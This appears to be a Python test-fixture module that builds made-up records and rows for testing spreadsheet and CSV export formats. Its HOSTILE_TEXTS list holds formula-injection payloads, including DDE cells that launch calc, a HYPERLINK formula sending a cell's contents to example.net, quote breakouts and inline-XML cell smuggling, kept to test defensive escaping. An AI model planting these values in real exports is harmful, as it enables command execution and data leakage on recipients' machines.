"""Rows and facts for tests of export formats, made up: a format sees nothing of a database."""

from __future__ import annotations

import io
from collections.abc import Iterable
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

from shared_record.plugin import ExportFormat, ExportOptions, ExportRow, ExportSummary, RecordFacts, utc_text

NOON = datetime(2026, 11, 22, 12, 0, 0, 123456, tzinfo=UTC)
FACTS = RecordFacts(
    vendor="Acme",
    log_origin="app.example/log/t1",
    customer_ref="s0-0123456789abcdef",
    tree_id="r_0123456789abcdef",
    period="2026-11",
    start=datetime(2026, 11, 1, tzinfo=UTC),
    end=datetime(2026, 12, 1, tzinfo=UTC),
    zone="UTC",
    unit="call",
    as_of=NOON,
    size=1,
    total="1",
    covered_size=0,
    covered_total="0",
    proof=None,
)
_ROW = ExportRow(
    seq=1,
    record_id="rec_1",
    receipt_id="0x" + "ab" * 32,
    recorded=utc_text(NOON),
    used_at=None,
    amount="1",
    running_total="1",
    unit="call",
    state="recorded",
    adjusts=None,
    reference=None,
    reason="r",
    metadata_json=None,
    detail_salt=None,
    entry="{}",
)
# What a cell can hold to make a spreadsheet do something: formulas, DDE, cells in other cells, markup, broken quotes.
HOSTILE_STARTS = "=+-@|%\t\r\n\0＝＋－＠｜％"
HOSTILE_TEXTS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+HYPERLINK("http://example.net/?"&A1,"see")',
    "-2+3+cmd|' /C calc'!D2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "|calc",
    "%0A=1",
    '","=1+1","',
    '"\r\n=1+1,',
    "a\r\n=1+1",
    "a;=1+1",
    "http://example.net/",
    "mailto:a@example.net",
    "internal:Summary!A1",
    "{=SUM(A1)}",
    "<r><t>x</t></r>",
    '<r></is></c><c r="Z9"><f>1+1</f></c><c><is></r>',
    "]]></t><f>1+1</f>",
    "_x003D_1+1",
    "_x0000_",
    "\x01\x0b\x1f\x7f\ufffe\uffff",
    "'=1+1",
    " lead and trail ",
    "12345678901234567890",
    "1E5",
    "TRUE",
    "\u202e=1+1",
)


def row(seq: int = 1, amount: str = "1", running_total: str = "1", **fields: Any) -> ExportRow:
    """Return a row; ``fields`` are those of ``ExportRow``."""
    return _ROW._replace(seq=seq, record_id=f"rec_{seq}", amount=amount, running_total=running_total, **fields)


def export(kind: type[ExportFormat], rows: Iterable[ExportRow], **facts: Any) -> tuple[bytes, ExportSummary]:
    """Write rows in a format; ``facts`` are fields of ``RecordFacts``."""
    out = io.BytesIO()
    summary = kind().write(iter(rows), out, ExportOptions(replace(FACTS, **facts)))
    return out.getvalue(), summary
